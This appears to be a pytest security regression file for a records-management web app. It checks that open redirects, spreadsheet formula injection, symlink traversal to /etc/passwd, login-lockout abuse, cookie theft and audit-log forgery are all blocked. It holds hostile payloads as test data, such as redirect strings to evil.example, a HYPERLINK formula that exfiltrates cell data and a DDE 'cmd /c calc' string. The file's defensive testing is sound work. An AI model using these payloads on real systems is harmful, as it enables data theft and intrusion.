"""Attacks that once worked, each replayed against the product: redirects off the site, formulas in
exports, imports through symbolic links, lockout used as a weapon, sessions and tokens that outlive
their owner's intent, one person on both sides of four eyes, and an audit trail rewritten in the
database."""
from __future__ import annotations

import csv
import io
import os
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select

from records.db import session_scope
from records.errors import UserError
from records.models import AuditAction, Case, NomenclatureItem, User
from records.spreadsheet import FORMULA_START
from tests.conftest import PASSWORD, do_login
from tests.integration.test_disposal_expiry import close, file_doc

# --- redirects -------------------------------------------------------------------------------------

OFF_SITE = ["/\t/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/",
            "/\r\n/evil.example", "\t//evil.example", "/\x0b/evil.example", "javascript:alert(1)", "/\n\n"]


@pytest.mark.parametrize("target", OFF_SITE)
def test_language_switch_never_leaves_the_site(client: Any, target: str) -> None:
    resp = client.get("/lang/ru", query_string={"next": target})
    assert resp.status_code == 302
    location = resp.headers["Location"]
    assert location in ("/", "http://localhost/") or (location.startswith("/") and not location.startswith("//")), location
    assert "evil" not in location


@pytest.mark.parametrize("target", OFF_SITE)
def test_login_never_redirects_off_the_site(app: Flask, make_user: Any, target: str) -> None:
    user = make_user("secretary")
    client = app.test_client()
    resp = client.post("/login", query_string={"next": target}, data={"username": user.username, "password": PASSWORD})
    assert resp.status_code == 302, resp.get_data(as_text=True)[:300]
    assert "evil" not in resp.headers["Location"]
    assert not resp.headers["Location"].startswith("//")


def test_a_path_of_the_app_is_kept_without_its_control_characters(app: Flask, make_user: Any) -> None:
    user = make_user("secretary")
    client = app.test_client()
    resp = client.post("/login", query_string={"next": "/search?q=\nкелишим"},
                       data={"username": user.username, "password": PASSWORD})
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/search?q=%D0%BA%D0%B5%D0%BB%D0%B8%D1%88%D0%B8%D0%BC")


# --- formulas in exports ---------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NOTE = "+cmd|' /c calc'!a0"  # lower case: it also serves as a user name


def _check_csv(body: str) -> int:
    """Every cell of a CSV export is inert; returns how many cells carried the hostile text."""
    carried = 0
    for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))):
        for value in row:
            assert not value.startswith(FORMULA_START), value
            carried += HOSTILE in value or HOSTILE_NOTE in value
    return carried


def _check_xlsx(data: bytes) -> int:
    from openpyxl import load_workbook

    carried = 0
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    carried += HOSTILE in cell.value or HOSTILE_NOTE in cell.value
    return carried


def test_every_export_neutralises_formulas(app: Flask, tmp_path: Path, login_as: Any, api_token: Any) -> None:
    officer = login_as("archivist")
    auditor = login_as("auditor", "admin")
    _doc, permanent = file_doc(app, tmp_path, 2023, "12-4-7", HOSTILE)
    file_doc(app, tmp_path, 2023, "12-4-17", HOSTILE)
    with app.app_context(), session_scope(app) as session:
        for item in session.scalars(select(NomenclatureItem)):
            item.title_ky = item.title_ru = item.title_en = HOSTILE
            item.note = HOSTILE_NOTE
    close(app, 2023)
    assert officer.post(f"/disposal/cases/{permanent}/keeping", data={"is_paper": "1", "sheets": "4"}).status_code == 302
    assert officer.post("/disposal/inventories", data={"number": "1", "inventory_date": "2025-01-15",
                                                       "case_id": [str(permanent)]}).status_code == 302
    with app.app_context(), session_scope(app) as session:
        inventory = session.get(Case, permanent).inventory_id
    # A hostile user name reaches the audit trail through a failed sign-in.
    assert do_login(app.test_client(), HOSTILE_NOTE, "wrong-password-1").status_code == 401

    exports = {
        "nomenclature csv": ("csv", officer.get("/nomenclature/2023.csv")),
        "nomenclature xlsx": ("xlsx", officer.get("/nomenclature/2023.xlsx")),
        "expiry csv": ("csv", officer.get("/disposal/expiry/2029.csv?lang=ru")),
        "expiry xlsx": ("xlsx", officer.get("/disposal/expiry/2029.xlsx?lang=ky")),
        "inventory xlsx": ("xlsx", officer.get(f"/disposal/inventories/{inventory}.xlsx?lang=ru")),
        "api csv": ("csv", app.test_client().get("/api/v1/reports/expiry?year=2029&format=csv",
                                                 headers={"Authorization": f"Bearer {api_token('auditor')}"})),
        "audit csv": ("csv", auditor.get("/audit/export.csv")),
    }
    for name, (kind, resp) in exports.items():
        assert resp.status_code == 200, name
        carried = _check_csv(resp.get_data(as_text=True)) if kind == "csv" else _check_xlsx(resp.get_data())
        assert carried, f"{name}: the hostile text should be there, inert"
    # The commands write through the same functions.
    runner = app.test_cli_runner()
    out = tmp_path / "n.xlsx"
    assert runner.invoke(args=["nomenclature", "export", "--year", "2023", "--format", "xlsx", str(out)]).exit_code == 0
    assert _check_xlsx(out.read_bytes())
    listed = runner.invoke(args=["cases", "expiry", "2029", "--format", "csv"])
    assert listed.exit_code == 0 and _check_csv(listed.output)
    exported = runner.invoke(args=["audit", "export"])
    assert exported.exit_code == 0 and _check_csv(exported.output)


def test_an_exported_nomenclature_imports_back_unchanged(app: Flask, login_as: Any) -> None:
    from records import nomenclature

    with app.app_context(), session_scope(app) as session:
        nom = nomenclature.ensure_shipped(session, 2023)
        nom.items[0].title_ru = HOSTILE
        exported = nomenclature.export_csv(nom)
    assert "'" + HOSTILE.replace('"', '""') in exported
    rows = nomenclature.read_csv(exported)
    assert rows[0].title_ru == HOSTILE


# --- imports through links -------------------------------------------------------------------------

def _tree_with_links(app: Flask, tmp_path: Path) -> Path:
    """An import tree with one real file and links to the data folder's secret key, to /etc/passwd,
    to a folder outside, and a manifest naming them all."""
    year = str(date.today().year)
    tree = tmp_path / "archive"
    place = tree / year / "12-4-7"
    place.mkdir(parents=True)
    (place / "real.txt").write_text("Кафедранын отурумунун протоколу", encoding="utf-8")
    secret = Path(app.config["DATA_DIR"]) / "secret_key"
    secret.write_text("the-signing-key-of-sessions", encoding="ascii")
    (place / "key.txt").symlink_to(secret)
    (place / "passwd.txt").symlink_to("/etc/passwd")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "private.txt").write_text("not for the archive", encoding="utf-8")
    (tree / year / "12-4-1").symlink_to(outside, target_is_directory=True)
    (tree / "manifest.csv").write_text(
        "path,index,year\n"
        f"{year}/12-4-7/real.txt,12-4-7,{year}\n"
        f"{year}/12-4-7/key.txt,12-4-7,{year}\n"
        f"{year}/12-4-7/passwd.txt,12-4-7,{year}\n"
        f"{year}/12-4-1/private.txt,12-4-1,{year}\n",
        encoding="utf-8")
    return tree


@pytest.mark.parametrize("mode", ["folder", "manifest"])
def test_import_never_follows_links_or_leaves_its_folder(app: Flask, tmp_path: Path, mode: str) -> None:
    from records.models import Document, DocumentFile

    tree = _tree_with_links(app, tmp_path)
    target = str(tree) if mode == "folder" else str(tree / "manifest.csv")
    result = app.test_cli_runner().invoke(args=["import", mode, target])
    assert result.exit_code == 1, result.output  # something was refused
    assert "Filed: 1" in result.output
    assert result.output.count("symbolic link") == 3, result.output
    with app.app_context(), session_scope(app) as session:
        names = set(session.scalars(select(DocumentFile.original_filename)))
        assert names == {"real.txt"}
        assert session.scalar(select(func.count(Document.id))) == 1


@pytest.mark.parametrize("mode", ["folder", "manifest"])
def test_import_refuses_pipes_and_devices_without_reading_them(app: Flask, tmp_path: Path, mode: str) -> None:
    """Opening a named pipe would wait for a writer for ever; it is refused without being opened."""
    from records.capture import bulk

    year = str(date.today().year)
    place = tmp_path / "archive" / year / "12-4-7"
    place.mkdir(parents=True)
    os.mkfifo(place / "pipe.txt")
    (tmp_path / "archive" / "manifest.csv").write_text(f"path,index,year\n{year}/12-4-7/pipe.txt,12-4-7,{year}\n",
                                                      encoding="utf-8")
    items = (bulk.items_from_folder(tmp_path / "archive")[0] if mode == "folder"
             else bulk.items_from_manifest(tmp_path / "archive" / "manifest.csv"))
    (pipe,) = [i for i in items if i.path.name == "pipe.txt"]
    assert pipe.problem is not None and pipe.problem.code == "not_a_file"
    with pytest.raises(UserError) as caught:
        bulk.open_inside(place / "pipe.txt", pipe.root)
    assert caught.value.code == "not_a_file"


def test_a_file_swapped_for_a_link_after_the_walk_is_not_read(app: Flask, tmp_path: Path) -> None:
    from records.capture import bulk

    tree = _tree_with_links(app, tmp_path)
    items, _ignored = bulk.items_from_folder(tree)
    real = next(i for i in items if i.path.name == "real.txt")
    real.path.unlink()
    real.path.symlink_to("/etc/passwd")
    with pytest.raises(UserError) as caught:
        bulk.hash_file(real.path, real.root)
    assert caught.value.code == "symlink"


# --- four eyes -------------------------------------------------------------------------------------

def _user_id(app: Flask, name: str) -> int:
    with app.app_context(), session_scope(app) as session:
        return session.scalar(select(User.id).where(User.username == name))


def test_an_administrator_cannot_give_itself_roles(app: Flask, login_as: Any) -> None:
    admin = login_as("admin")
    me = admin.user.id
    resp = admin.post(f"/admin/users/{me}", data={"full_name": "A", "active": "1", "roles": ["admin", "head"]})
    assert resp.status_code == 400 and "another administrator" in resp.get_data(as_text=True)
    with app.app_context(), session_scope(app) as session:
        assert session.get(User, me).roles == {"admin"}
    # Another administrator may.
    other = login_as("admin")
    assert other.post(f"/admin/users/{me}", data={"full_name": "A", "active": "1",
                                                  "roles": ["admin", "auditor"]}).status_code == 302


@pytest.mark.parametrize("roles", [["archivist", "head"], ["archivist", "approver"], ["archivist", "commission"]])
def test_nobody_drafts_and_approves_the_same_paper(app: Flask, login_as: Any, make_user: Any, roles: list[str]) -> None:
    admin = login_as("admin")
    resp = admin.post("/admin/users/new", data={"username": "both", "password": PASSWORD, "roles": roles})
    assert resp.status_code == 400 and "both draft and approve" in resp.get_data(as_text=True)
    assert _user_id(app, "both") is None
    officer = make_user("archivist")
    resp = admin.post(f"/admin/users/{officer.id}", data={"full_name": "O", "active": "1", "roles": roles})
    assert resp.status_code == 400
    with app.app_context(), session_scope(app) as session:
        assert session.get(User, officer.id).roles == {"archivist"}
    result = app.test_cli_runner().invoke(args=["users", "create", "both2", *sum((["--role", r] for r in roles), [])],
                                          input=PASSWORD + "\n")
    assert result.exit_code != 0 and "both draft and approve" in result.output


def test_combined_roles_when_allowed_are_flagged_in_the_audit_and_the_report(app: Flask, login_as: Any,
                                                                            db_session: Any) -> None:
    from records.models import AuditEvent

    drafter = login_as("archivist")
    year = date.today().year + 3
    assert drafter.post("/nomenclature/create", data={"year": year, "source": "shipped"}).status_code == 302
    app.config["ALLOW_COMBINED_ROLES"] = True
    both = login_as("archivist", "head")
    assert both.post(f"/nomenclature/{year}/approve").status_code == 302
    event = db_session.scalar(select(AuditEvent).where(AuditEvent.action == "nomenclature:approve"))
    assert event.detail.get("combined_roles") is True
    report = login_as("auditor", "admin").get("/audit/inspection?format=csv").get_data(as_text=True)
    flagged = [row for row in csv.reader(io.StringIO(report.lstrip("\ufeff"))) if row[1] == "approved a nomenclature"]
    assert flagged and flagged[0][0] == both.user.username and flagged[0][-1] == "yes"
    page = login_as("auditor").get("/audit/inspection").get_data(as_text=True)
    assert "⚑" in page
    # Switched off again, the same person may no longer approve.
    app.config["ALLOW_COMBINED_ROLES"] = False
    assert drafter.post("/nomenclature/create", data={"year": year + 2, "source": "shipped"}).status_code == 302
    refused = both.post(f"/nomenclature/{year + 2}/approve")
    assert refused.status_code == 403 and "does not allow" in refused.get_data(as_text=True)


# --- lockout as a weapon ---------------------------------------------------------------------------

def _login_from(app: Flask, address: str, name: str, password: str) -> Any:
    return app.test_client().post("/login", data={"username": name, "password": password},
                                  environ_base={"REMOTE_ADDR": address})


def test_a_strangers_failures_never_lock_the_owner_out(app: Flask) -> None:
    for n in range(app.config["LOGIN_FREE_FAILURES"]):
        assert _login_from(app, "203.0.113.9", "admin", f"wrong-password-{n}").status_code == 401
    stranger = _login_from(app, "203.0.113.9", "admin", "wrong-password-x")
    assert stranger.status_code == 429 and "Try again in" in stranger.get_data(as_text=True)
    # The owner, from another address, signs in at once.
    assert _login_from(app, "198.51.100.7", "admin", PASSWORD).status_code == 302


def test_many_addresses_hammering_one_name_do_not_keep_its_owner_out(app: Flask) -> None:
    assert _login_from(app, "198.51.100.7", "admin", PASSWORD).status_code == 302  # the owner's usual address
    for n in range(app.config["LOGIN_NAME_FREE_FAILURES"]):
        _login_from(app, f"203.0.113.{n % 200}", "admin", f"wrong-password-{n}")
    # A new address meets the name's own delay; the owner's usual one does not.
    assert _login_from(app, "192.0.2.1", "admin", PASSWORD).status_code == 429
    assert _login_from(app, "198.51.100.7", "admin", PASSWORD).status_code == 302


def test_known_unknown_and_throttled_names_cost_the_same_and_look_alike(app: Flask, make_user: Any,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """Every answer computes exactly one password hash; known and unknown names answer alike, and a
    throttled address is throttled whatever the name."""
    from records import accounts

    user = make_user("secretary")
    hashed: list[str] = []
    real = accounts.check_password_hash

    def counting(pwhash: str, password: str) -> bool:
        hashed.append(pwhash)
        return real(pwhash, password)

    monkeypatch.setattr(accounts, "check_password_hash", counting)
    answers = {}
    for label, name in (("known", user.username), ("unknown", "nobody-here")):
        hashed.clear()
        resp = _login_from(app, f"192.0.2.{len(answers) + 10}", name, "wrong-password-1")
        page = re.sub(r'name="csrf_token" value="[^"]*"', "", resp.get_data(as_text=True))
        answers[label] = (resp.status_code, page.replace(name, "NAME"))
        assert len(hashed) == 1, label
    assert answers["known"] == answers["unknown"]
    for n in range(app.config["LOGIN_FREE_FAILURES"]):
        _login_from(app, "192.0.2.99", "nobody-here", f"wrong-password-{n}")
    for name in (user.username, "nobody-here"):
        hashed.clear()
        resp = _login_from(app, "192.0.2.99", name, PASSWORD)
        assert resp.status_code == 429 and len(hashed) == 1, name


# --- sessions and tokens ---------------------------------------------------------------------------

def _copy_cookies(source: Any, target: Any) -> None:
    for cookie in source._cookies.values():
        target.set_cookie(cookie.key, cookie.value, domain=cookie.domain, path=cookie.path)


def test_a_copied_session_cookie_dies_at_logout(app: Flask, login_as: Any) -> None:
    owner = login_as("auditor")
    thief = app.test_client()
    _copy_cookies(owner, thief)
    assert thief.get("/nomenclature/").status_code == 200  # the copy works while the session lives
    assert owner.post("/logout").status_code == 302
    resp = thief.get("/nomenclature/")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_role_change_and_password_reset_end_sessions_and_tokens(app: Flask, login_as: Any, make_user: Any,
                                                                 api_token: Any) -> None:
    from records import accounts

    admin = login_as("admin")
    user = login_as("auditor")
    assert admin.post(f"/admin/users/{user.user.id}", data={"full_name": "X", "active": "1",
                                                            "roles": ["secretary"]}).status_code == 302
    assert user.get("/nomenclature/").status_code == 302  # signed out by the role change
    member = make_user("secretary")
    with app.app_context(), session_scope(app) as session:
        token = accounts.issue_token(session, session.get(User, member.id), actor="test")
    auth = {"Authorization": f"Bearer {token}"}
    client = app.test_client()
    assert do_login(client, member.username).status_code == 302
    assert app.test_client().get("/api/v1/nomenclature", headers=auth).status_code == 200
    result = app.test_cli_runner().invoke(args=["users", "password", member.username], input="fresh-secret-77\n")
    assert result.exit_code == 0, result.output
    assert app.test_client().get("/api/v1/nomenclature", headers=auth).status_code == 401
    assert client.get("/nomenclature/").status_code == 302


def test_tokens_expire_and_are_listed_and_revoked(app: Flask, make_user: Any, login_as: Any) -> None:
    from datetime import timedelta

    from records import accounts
    from records.db import utcnow
    from records.models import ApiToken

    member = make_user("secretary")
    runner = app.test_cli_runner()
    first = runner.invoke(args=["users", "token", member.username]).output.strip()
    second = runner.invoke(args=["users", "token", member.username, "--days", "30"]).output.strip()
    api = app.test_client()

    def works(token: str) -> bool:
        return api.get("/api/v1/nomenclature", headers={"Authorization": f"Bearer {token}"}).status_code == 200

    assert works(first) and works(second)
    listed = runner.invoke(args=["users", "tokens", member.username])
    assert listed.exit_code == 0 and first[:10] in listed.output and second[:10] in listed.output
    assert listed.output.count("active") == 2
    with app.app_context(), session_scope(app) as session:
        rows = {r.prefix: r for r in session.scalars(select(ApiToken).where(ApiToken.user_id == member.id))}
        assert (accounts.token_expiry(rows[second[:10]]) - utcnow()).days in (29, 30)
        first_id = rows[first[:10]].id
        rows[second[:10]].expires_at = utcnow() - timedelta(seconds=1)
        # A token made before tokens had an expiry lasts TOKEN_DAYS from its making.
        old = ApiToken(user_id=member.id, token_hash=accounts._token_hash("sdk_old"), prefix="sdk_old",
                       created_at=utcnow() - timedelta(days=app.config["TOKEN_DAYS"] + 1))
        session.add(old)
    assert not works(second) and not works("sdk_old")
    assert "expired" in runner.invoke(args=["users", "tokens", member.username]).output
    assert runner.invoke(args=["users", "revoke", member.username, str(first_id)]).exit_code == 0
    assert not works(first)
    again = runner.invoke(args=["users", "revoke", member.username, str(first_id)])
    assert again.exit_code != 0 and "no active token" in again.output
    # On the users page.
    admin = login_as("admin")
    third = runner.invoke(args=["users", "token", member.username]).output.strip()
    page = admin.get(f"/admin/users/{member.id}").get_data(as_text=True)
    assert third[:10] in page and "Revoke" in page
    assert admin.post(f"/admin/users/{member.id}/tokens/revoke").status_code == 302
    assert not works(third)


# --- the audit trail rewritten in the database ----------------------------------------------------

def _events(app: Flask, n: int) -> list[Any]:
    from records import audit

    with app.app_context(), session_scope(app) as session:
        made = [audit.record(session, AuditAction.AUDIT_VERIFY, object_type="thing", object_id=i, actor="tester", n=i)
                for i in range(n)]
        return [(e.id, e.hash) for e in made]


def _verify(app: Flask) -> Any:
    return app.test_cli_runner().invoke(args=["audit", "verify"])


def test_a_wiped_audit_table_is_found(app: Flask, db_session: Any) -> None:
    from sqlalchemy import delete

    from records import audit
    from records.models import AuditEvent, Setting

    _events(app, 4)
    db_session.execute(delete(AuditEvent))
    db_session.execute(delete(Setting).where(Setting.key == audit.HEAD_KEY))
    result = _verify(app)
    assert result.exit_code == 1 and "file_truncated" in result.output, result.output


def test_a_deleted_tail_with_the_checkpoint_moved_back_is_found(app: Flask, db_session: Any) -> None:
    from sqlalchemy import delete

    from records import audit
    from records.models import AuditEvent, Setting

    made = _events(app, 4)
    total = db_session.scalar(select(func.count(AuditEvent.id)))
    db_session.execute(delete(AuditEvent).where(AuditEvent.id == made[-1][0]))
    head = db_session.get(Setting, audit.HEAD_KEY)
    head.value = {"id": made[-2][0], "hash": made[-2][1], "count": total - 1, "keyed": True}
    db_session.flush()
    result = _verify(app)
    assert result.exit_code == 1 and "file_truncated" in result.output, result.output
    assert f"event #{made[-1][0]}" in result.output


def test_a_chain_forged_without_the_key_is_found(app: Flask, db_session: Any) -> None:
    """Someone who can write the database but not read the key rebuilds the whole chain (a replaced
    database): every event and both links are recomputed, the database checkpoint moved along."""
    from sqlalchemy import delete

    from records import audit
    from records.models import AuditEvent, Setting

    _events(app, 3)
    rows = db_session.scalars(select(AuditEvent).order_by(AuditEvent.id)).all()
    forged = [dict(id=r.id, at=r.at, actor_id=r.actor_id, actor=r.actor, action=r.action, object_type=r.object_type,
                   object_id=r.object_id, detail=r.detail, ip=r.ip) for r in rows]
    db_session.execute(delete(AuditEvent))
    prev = audit.GENESIS
    for values in forged:
        values["actor"] = "nobody" if values["action"] == "audit:verify" else values["actor"]
        fields = {k: values[k] for k in ("at", "actor_id", "actor", "action", "object_type", "object_id", "detail", "ip")}
        digest = audit.event_hash(prev, **fields)  # without the key: plain SHA-256, as the old chains were
        db_session.add(AuditEvent(prev_hash=prev, hash=digest, **values))
        db_session.flush()
        prev = digest
    head = db_session.get(Setting, audit.HEAD_KEY)
    head.value = {"id": forged[-1]["id"], "hash": prev, "count": len(forged), "keyed": True}
    db_session.flush()
    result = _verify(app)
    assert result.exit_code == 1 and "file_mismatch" in result.output, result.output
    # Forging keyed hashes needs the key; a guessed one does not verify either.
    db_session.execute(delete(AuditEvent).where(AuditEvent.id == forged[-1]["id"]))
    last = dict(forged[-1])
    fields = {k: last[k] for k in ("at", "actor_id", "actor", "action", "object_type", "object_id", "detail", "ip")}
    db_session.add(AuditEvent(prev_hash=prev, hash=audit.event_hash(prev, key=b"guess", **fields), **last))
    db_session.flush()
    assert "altered" in _verify(app).output


def test_a_chain_from_before_the_key_verifies_and_records_the_switch(app: Flask, db_session: Any) -> None:
    """An existing plain SHA-256 chain keeps verifying up to the switch-over, recorded as an event."""
    from sqlalchemy import delete, update

    from records import audit
    from records.db import utcnow
    from records.models import AuditEvent, Setting

    db_session.execute(delete(AuditEvent))
    db_session.execute(delete(Setting).where(Setting.key == audit.HEAD_KEY))
    Path(app.config["DATA_DIR"], audit.CHECKPOINT_FILE).unlink(missing_ok=True)
    prev = audit.GENESIS
    for i in range(3):  # what an older version wrote
        fields = dict(at=utcnow(), actor_id=None, actor="old", action="test:old", object_type=None, object_id=None,
                      detail={"n": i}, ip=None)
        event = AuditEvent(prev_hash=prev, hash=audit.event_hash(prev, **fields), **fields)
        db_session.add(event)
        db_session.flush()
        prev = event.hash
    db_session.add(Setting(key=audit.HEAD_KEY, value={"id": event.id, "hash": prev, "count": 3}, updated_at=utcnow()))
    db_session.flush()
    assert _verify(app).exit_code == 0
    _events(app, 2)
    actions = list(db_session.scalars(select(AuditEvent.action).order_by(AuditEvent.id)))
    assert actions == ["test:old"] * 3 + ["audit:keyed", "audit:verify", "audit:verify"]
    result = _verify(app)
    assert result.exit_code == 0, result.output
    # Plain events are accepted only before the switch.
    first_keyed = db_session.scalar(select(AuditEvent).where(AuditEvent.action == "audit:verify").limit(1))
    plain = audit.event_hash(first_keyed.prev_hash, at=first_keyed.at, actor_id=first_keyed.actor_id,
                             actor=first_keyed.actor, action=first_keyed.action, object_type=first_keyed.object_type,
                             object_id=first_keyed.object_id, detail=first_keyed.detail, ip=first_keyed.ip)
    db_session.execute(update(AuditEvent).where(AuditEvent.id == first_keyed.id).values(hash=plain))
    assert "altered" in _verify(app).output


def test_backup_carries_the_audit_key_and_checkpoints(app: Flask, tmp_path: Path, app_config: dict[str, Any],
                                                     backend: str) -> None:
    if backend != "sqlite":
        pytest.skip("restoring needs an empty PostgreSQL schema of its own; the SQLite half shows the files travel")
    from app import create_app
    from records import audit

    _events(app, 3)
    dest = tmp_path / "backup"
    assert app.test_cli_runner().invoke(args=["backup", "create", str(dest)]).exit_code == 0
    assert (dest / audit.KEY_FILE).stat().st_mode & 0o077 == 0
    assert (dest / audit.CHECKPOINT_FILE).read_bytes()
    target = tmp_path / "restored"
    config = dict(app_config, DATA_DIR=str(target), DATABASE_URL=f"sqlite:///{target / 'sandyk.db'}")
    restored = create_app(config)
    try:
        result = restored.test_cli_runner().invoke(args=["backup", "restore", str(dest)])
        assert result.exit_code == 0, result.output
        assert (target / audit.KEY_FILE).read_bytes() == Path(app.config["DATA_DIR"], audit.KEY_FILE).read_bytes()
        verified = restored.test_cli_runner().invoke(args=["audit", "verify"])
        assert verified.exit_code == 0, verified.output
    finally:
        from records.db import get_database

        get_database(restored).dispose()
